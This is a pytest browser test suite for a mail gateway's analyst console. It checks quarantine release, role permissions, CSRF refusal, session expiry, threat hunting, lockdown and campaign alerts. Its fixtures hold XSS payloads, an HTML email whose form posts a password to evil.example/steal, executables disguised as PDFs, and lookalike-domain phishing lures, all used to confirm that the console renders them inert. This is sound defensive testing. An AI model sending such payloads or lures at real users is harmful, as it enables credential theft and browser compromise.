"""The analyst console in a real headless Chromium against a running gateway: log in, find a
quarantined message, open it, release it, see it delivered in the Maildir; a viewer cannot
release; a request without the CSRF token is refused; a session expires; markup in a message
shows as text and an HTML body renders inert, with no request leaving 127.0.0.1; a wave of
lures shows as a campaign with its quarantined members, and the alert raised when the analyst
marks it bad is acknowledged and closed in the browser.

Screenshots of the pages are saved to $MAILWARD_SCREENSHOTS when it names a folder (the ones in
docs/screenshots/ were made so)."""

from __future__ import annotations

import os
import sys
import time
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).parent))

import messages
from console_harness import Browser, chromium, held_ids, send, start_console_gateway, wait_for
from gateway_harness import GatewayProcess, maildir_files

pytestmark = pytest.mark.slow
__all__ = ["chromium"]

EVIL = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'


def screenshot(page: Any, name: str) -> None:
    folder = os.environ.get("MAILWARD_SCREENSHOTS")
    if folder:
        Path(folder).mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(Path(folder) / name), full_page=False)


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[GatewayProcess, int]]:
    gw, web = start_console_gateway(tmp_path_factory.mktemp("console"))
    try:
        yield gw, web
    finally:
        gw.stop()


@pytest.fixture
def browser(chromium: Any, gateway: tuple[GatewayProcess, int]) -> Browser:
    b = Browser(chromium, base=f"http://127.0.0.1:{gateway[1]}")
    yield b  # type: ignore[misc]
    assert b.remote_requests == [], "the console made the browser reach another host"
    assert b.dialogs == [], "a script ran in the console"
    assert b.csp_violations == [], "the console's own pages broke its CSP"


def evil_message() -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = f'"CEO {EVIL}" <ceo@lookalike.example.net>'
    msg["To"] = "dave@example.com"
    msg["Subject"] = f"Urgent {EVIL}"
    msg["Message-ID"] = "<evil-markup@lookalike.example.net>"
    msg["X-Evil"] = EVIL
    msg.set_content("plain part")
    msg.add_alternative(
        '<html><head><script>window.__pwned=3; alert("head")</script>'
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"></head>'
        '<body onload="window.__pwned=4"><p onclick="window.__pwned=5">Dear user</p>'
        '<img src="https://tracker.evil.example/pixel.gif">'
        '<form action="https://evil.example/steal" method="post"><input name="pw">'
        '<button>Go</button></form><iframe src="https://evil.example/frame"></iframe>'
        '<a href="https://login.evil.example/reset">https://intranet.example.com</a>'
        '<svg onload="window.__pwned=6"></svg></body></html>',
        subtype="html",
    )
    pe = b"MZ" + b"\x90" * 58 + (64).to_bytes(4, "little") + b"PE\x00\x00\x4c\x01" + b"\0" * 200
    msg.add_attachment(pe, maintype="application", subtype="pdf",
                       filename=f"{EVIL}.pdf")
    return msg


def test_an_analyst_finds_opens_and_releases_a_message_and_it_is_delivered(
    gateway: tuple[GatewayProcess, int], browser: Browser
) -> None:
    gw, _ = gateway
    send(gw.port, messages.executable(to="carol@example.com"))
    [entry] = wait_for("the message to be quarantined", lambda: held_ids(gw))
    page = browser.login("analyst")
    page.fill("input[name=recipient]", "carol")
    page.click("form.filters button[type=submit]")
    row = page.locator("#quarantine tbody tr", has_text="carol@example.com")
    assert row.count() == 1
    row.locator("a.subject").click()
    page.wait_for_url(f"**/quarantine/{entry}")
    assert page.locator("table.findings").inner_text().strip() != ""
    assert page.locator("#attachments").inner_text().count("invoice.pdf") == 1
    assert not [p for p in maildir_files(gw.data_dir) if "carol" in str(p)]
    page.fill("#release-form input[name=reason]", "checked: the supplier's real invoice tool")
    page.click("#release")
    page.wait_for_url(f"**/quarantine/{entry}?done=*")
    assert "delivered" in page.locator("p.done").inner_text()
    assert page.locator("#entry-status").inner_text() == "released"
    delivered = wait_for("delivery to carol's Maildir",
                         lambda: [p for p in maildir_files(gw.data_dir) if "carol" in str(p)])
    assert b"Invoice" in delivered[0].read_bytes()
    assert "analyst release" in page.locator("ul.audit").inner_text()


def test_a_viewer_has_no_release_button_and_the_api_refuses(
    gateway: tuple[GatewayProcess, int], browser: Browser
) -> None:
    gw, _ = gateway
    send(gw.port, messages.executable(to="erin@example.com"))
    entry = wait_for("a held message for erin",
                     lambda: next(iter(i for i in held_ids(gw) if i), None))
    page = browser.login("viewer")
    page.goto(f"{browser.base}/quarantine/{entry}")
    assert page.locator("#release").count() == 0 and page.locator("form.act").count() == 0
    csrf = page.request.get(f"{browser.base}/api/session").json()["csrf"]
    r = page.request.post(f"{browser.base}/api/quarantine/{entry}/release",
                          data={"reason": "viewer tries"}, headers={"x-csrf-token": csrf})
    assert r.status == 403
    assert entry in held_ids(gw)


def test_a_state_change_without_the_csrf_token_is_refused(
    gateway: tuple[GatewayProcess, int], browser: Browser
) -> None:
    gw, _ = gateway
    send(gw.port, messages.executable(to="frank@example.com"))
    wait_for("a held message", lambda: held_ids(gw))
    entry = held_ids(gw)[0]
    page = browser.login("analyst")
    r = page.request.post(f"{browser.base}/api/quarantine/{entry}/delete",
                          data={"reason": "no token"})
    assert r.status == 403
    page.goto(f"{browser.base}/quarantine/{entry}")
    page.evaluate("document.querySelector('#release-form input[name=csrf]').remove()")
    page.fill("#release-form input[name=reason]", "without a token")
    with page.expect_response(lambda resp: resp.request.method == "POST") as posted:
        page.click("#release")
    assert posted.value.status == 403
    assert "CSRF" in page.locator("p.error").inner_text()
    assert entry in held_ids(gw)


def test_markup_shows_as_text_and_the_html_body_is_inert(
    gateway: tuple[GatewayProcess, int], browser: Browser
) -> None:
    gw, _ = gateway
    before = set(held_ids(gw))
    send(gw.port, evil_message(), sender="ceo@lookalike.example.net")
    [entry] = wait_for("the markup message to be held",
                       lambda: [i for i in held_ids(gw) if i not in before])
    page = browser.login("viewer")
    listed = page.locator("#quarantine a.subject", has_text="Urgent")
    assert listed.inner_text() == f"Urgent {EVIL}"
    listed.click()
    page.wait_for_url(f"**/quarantine/{entry}")
    page.wait_for_load_state("load")
    assert page.locator("h1.subject").inner_text() == f"Urgent {EVIL}"
    assert f"{EVIL}.pdf" in page.locator("#attachments td.filename").inner_text()
    headers = page.locator("#headers").inner_text()
    assert EVIL in headers  # X-Evil, as sent
    assert "CEO <script>window.__pwned=1</script><img src=x" in headers  # From, as quoted
    assert "Dear user" in page.locator("#html-text").inner_text()
    links = page.locator("#links").inner_text()
    assert "hxxps://login[.]evil[.]example/reset" in links
    dom = page.evaluate("""() => ({
        pwned: window.__pwned === undefined ? null : window.__pwned,
        scripts: document.scripts.length,
        forms: [...document.forms].map(f => f.getAttribute('action')),
        images: [...document.images].map(i => i.getAttribute('src')),
        frames: document.querySelectorAll('iframe, frame, object, embed, svg').length,
        handlers: [...document.querySelectorAll('*')].filter(
            e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
        remoteLinks: [...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))
            .filter(h => !h.startsWith('/')),
        metaRefresh: document.querySelectorAll('meta[http-equiv]').length,
    })""")
    assert dom == {"pwned": None, "scripts": 0, "forms": ["/logout"], "images": [],
                   "frames": 0, "handlers": 0, "remoteLinks": [], "metaRefresh": 0}, dom
    assert page.url.startswith(browser.base)
    # the API gives the same text as data, never as markup to render
    detail = page.request.get(f"{browser.base}/api/quarantine/{entry}").json()
    assert detail["subject"] == f"Urgent {EVIL}"


def test_a_session_expires(chromium: Any, tmp_path: Path) -> None:
    # the absolute limit: the session ends 3 s after login although the page keeps loading
    # (idle expiry is tested with a turned clock in tests/web)
    gw, web = start_console_gateway(tmp_path, console="session_max_seconds = 3.0")
    try:
        browser = Browser(chromium, base=f"http://127.0.0.1:{web}")
        before_login = time.time()  # the session starts after this
        page = browser.login("viewer")

        def on_login_page() -> bool:
            page.goto(f"{browser.base}/quarantine")
            return "/login" in page.url

        wait_for("the session to expire", on_login_page, timeout=20)
        assert time.time() - before_login >= 3.0
        assert page.request.get(f"{browser.base}/api/session").status == 401
        assert browser.remote_requests == []
    finally:
        gw.stop()


def phish_lure(to: str, n: int) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = '"Microsoft 365 Security" <no-reply@rnicrosoft-support.example.net>'
    msg["To"] = to
    msg["Subject"] = f"Action required: your password expires today (case {n})"
    msg["Message-ID"] = f"<lure-{n}@rnicrosoft-support.example.net>"
    msg.set_content("Your password expires today. Keep it at https://login.rnicrosoft-support."
                    "example.net/keep?u=" + to)
    msg.add_alternative(
        f'<p>Your password expires today.</p><p><a href="https://login.rnicrosoft-support.'
        f'example.net/keep?u={to}">https://login.microsoftonline.com/</a></p>', subtype="html")
    pe = b"MZ" + b"\x90" * 58 + (64).to_bytes(4, "little") + b"PE\x00\x00\x4c\x01" + b"\0" * 200
    msg.add_attachment(pe, maintype="application", subtype="pdf", filename="Password-Policy.pdf")
    return msg


def test_overview_charts_draw_and_the_pages_are_photographed(
    gateway: tuple[GatewayProcess, int], browser: Browser
) -> None:
    gw, _ = gateway
    people = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"]
    before = len(held_ids(gw))
    for n, who in enumerate(people):
        send(gw.port, messages.clean(n, to=f"{who}@example.com"))
        if n % 2 == 0:
            send(gw.port, phish_lure(f"{who}@example.com", n),
                 sender="bounce@rnicrosoft-support.example.net")
        if n % 3 == 0:
            send(gw.port, messages.lookalike_link(to=f"{who}@example.com"))
    wait_for("the lures to be held", lambda: len(held_ids(gw)) >= before + 4)
    gw.wait_spool_empty()
    page = browser.login("analyst")
    page.goto(f"{browser.base}/overview")
    drawn = page.wait_for_function("() => window.Chart && Object.keys(Chart.instances).length")
    assert drawn.json_value() == 4
    assert "rnicrosoft-support.example.net" in page.locator("section.chart").nth(3).inner_text()
    screenshot(page, "overview.png")
    page.goto(f"{browser.base}/quarantine")
    screenshot(page, "quarantine-list.png")
    page.locator("#quarantine a.subject", has_text="case 0").click()
    page.wait_for_url("**/quarantine/*")
    assert "hxxps://login[.]rnicrosoft-support" in page.locator("#links").inner_text()
    screenshot(page, "message-view.png")


def test_hunt_finds_delivered_mail_and_claws_it_back_after_confirmation(
    gateway: tuple[GatewayProcess, int], browser: Browser
) -> None:
    gw, _ = gateway
    msg = messages.clean(77, to="judy@example.com")
    send(gw.port, msg, sender="newsletter@hunted.example.org")
    inbox = wait_for("delivery to judy",
                     lambda: [p for p in maildir_files(gw.data_dir) if "/judy/" in str(p)])
    page = browser.login("analyst")
    page.goto(f"{browser.base}/hunt")
    page.fill("input[name=sender]", "newsletter@hunted.example.org")
    page.click("form.filters button[type=submit]")
    hit = page.locator("section.hit")
    assert hit.count() == 1 and "Project notes 77" in hit.inner_text()
    assert "judy@example.com" in hit.inner_text()
    hit.locator("input[name=reason]").fill("newsletter turned out to be a lure")
    hit.locator("button.danger").click()  # the confirmation box is not ticked: the form refuses
    assert page.url.startswith(f"{browser.base}/hunt?")  # still the search page
    assert inbox[0].exists()
    hit.locator("input[name=confirm]").check()
    hit.locator("button.danger").click()
    page.wait_for_url("**/hunt?done=*")
    assert "judy@example.com" in page.locator("p.done").inner_text()
    wait_for("the copy to leave judy's inbox", lambda: not inbox[0].exists())


def test_lockdown_holds_mail_and_the_backlog_release_shows_progress_live(
    gateway: tuple[GatewayProcess, int], browser: Browser
) -> None:
    gw, _ = gateway
    page = browser.login("admin")
    page.goto(f"{browser.base}/lockdown")
    page.select_option("select[name=level]", "hold-all")
    page.fill("#level-form input[name=reason]", "upgrading the rules")
    page.click("#set-level")
    page.wait_for_url("**/lockdown?done=*")
    assert page.locator("#level").inner_text() == "hold-all"
    send(gw.port, messages.clean(88, to="ivan@example.com"))
    # the page polls /api/lockdown: the held count rises without a reload
    page.wait_for_function("() => document.getElementById('held').textContent === '1'",
                           timeout=30_000)
    assert not [p for p in maildir_files(gw.data_dir) if "/ivan/" in str(p)]
    page.select_option("select[name=level]", "normal")
    page.fill("#level-form input[name=reason]", "upgrade done")
    page.click("#set-level")
    page.wait_for_url("**/lockdown?done=*")
    page.fill("#release-backlog-form input[name=reason]", "upgrade done")
    page.click("#release-backlog")
    page.wait_for_url("**/lockdown?done=*")
    page.wait_for_function(
        "() => document.getElementById('release-progress').textContent.includes('delivered 1')",
        timeout=30_000)
    wait_for("delivery to ivan", lambda: [p for p in maildir_files(gw.data_dir)
                                          if "/ivan/" in str(p)])


def parcel_lure(to: str, n: int) -> EmailMessage:
    """One member of a wave: its own sender, link and reference, the same wording."""
    msg = EmailMessage()
    msg["From"] = f'"Parcel Service" <notice@parcel-{n}.example.net>'
    msg["To"] = to
    msg["Subject"] = f"Your parcel {4000 + n} is waiting <b>now</b>"
    msg["Message-ID"] = f"<parcel-{n}@parcel-{n}.example.net>"
    msg.set_content(f"Dear {to.partition('@')[0]}, a parcel could not be delivered because the "
                    f"customs fee of {n + 2}.99 EUR was not paid. Schedule a new delivery at "
                    f"https://track-{n}.parcel-{n}.example.net/p?id={9000 + n} quoting tracking "
                    f"number {4000 + n} before Friday.\n")
    pe = b"MZ" + b"\x90" * 58 + (64).to_bytes(4, "little") + b"PE\x00\x00\x4c\x01" + b"\0" * 200
    msg.add_attachment(pe, maintype="application", subtype="pdf", filename=f"label-{n}.pdf")
    return msg


def test_an_analyst_sees_a_campaign_marks_it_bad_then_handles_its_alert(
    gateway: tuple[GatewayProcess, int], browser: Browser
) -> None:
    gw, _ = gateway
    people = ("kate@example.com", "liam@example.com", "mona@example.com")
    for n, who in enumerate(people):
        send(gw.port, parcel_lure(who, n), sender=f"bounce@parcel-{n}.example.net")
    page = browser.login("analyst")

    def wave() -> str | None:
        found = page.request.get(f"{browser.base}/api/campaigns").json()["campaigns"]
        return next((c["id"] for c in found if set(people) <= set(c["recipients"])), None)

    cid = wait_for("the wave to be clustered into a campaign", wave)
    page.goto(f"{browser.base}/campaigns")
    page.locator("#campaigns a.campaign", has_text=cid).click()
    page.wait_for_url(f"**/campaigns/{cid}")
    screenshot(page, "campaign-view.png")
    members = page.locator("#members").inner_text()
    for who in people:  # each one is listed and, held in the quarantine, linked to its view
        row = page.locator("#members tbody tr", has_text=who)
        assert row.locator("a.subject").count() == 1, members
    assert "<b>now</b>" in page.locator("#members").inner_text()  # markup shows as text
    page.fill("#bad-form input[name=reason]", "customs-fee lure")
    page.check("#bad-form input[name=confirm]")
    page.click("#mark-bad")
    page.wait_for_url(f"**/campaigns/{cid}?done=*")
    assert page.locator("#campaign-state").inner_text() == "bad"
    # marking it bad raised the campaign's alert through the gateway's activity monitor
    page.goto(f"{browser.base}/alerts?kind=campaign")
    screenshot(page, "alerts.png")
    page.locator("#alerts a.subject", has_text=cid).click()
    page.wait_for_url("**/alerts/*")
    assert "ACT_CAMPAIGN_BAD" in page.locator("#evidence").inner_text()
    screenshot(page, "alert-view.png")
    page.fill("#alert-form input[name=reason]", "looking into it")
    page.click("#ack")
    page.wait_for_url("**/alerts/*?done=*")
    assert page.locator("#alert-state").inner_text() == "acknowledged"
    page.fill("#alert-form input[name=reason]", "wave stopped; members stay quarantined")
    page.click("#close")
    page.wait_for_url("**/alerts/*?done=*")
    assert page.locator("#alert-state").inner_text() == "closed"
    assert "analyst" in page.locator("dl.summary").inner_text()
